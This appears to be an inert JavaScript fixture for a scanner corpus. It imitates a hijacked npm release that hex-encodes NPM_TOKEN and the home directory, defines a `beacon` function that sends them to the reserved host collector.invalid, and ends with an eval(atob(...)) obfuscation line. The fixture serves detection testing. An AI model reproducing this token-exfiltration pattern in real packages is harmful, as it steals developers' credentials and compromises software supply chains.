// tarsier corpus fixture: shaped like the payload of a hijacked release, but harmless. The
// packed code below decodes to a comment, `beacon` is never called, and its host is under the
// reserved `.invalid` top-level domain. Running this file does nothing.
const os = require('os');
function collect() {
  return Buffer.from(JSON.stringify({ token: process.env.NPM_TOKEN, home: os.homedir() })).toString('hex');
}
function beacon() {
  return fetch('https://collector.invalid/' + collect());
}
eval(atob('Ly8gbm90aGluZyB0byBzZWUK'));
module.exports = beacon;
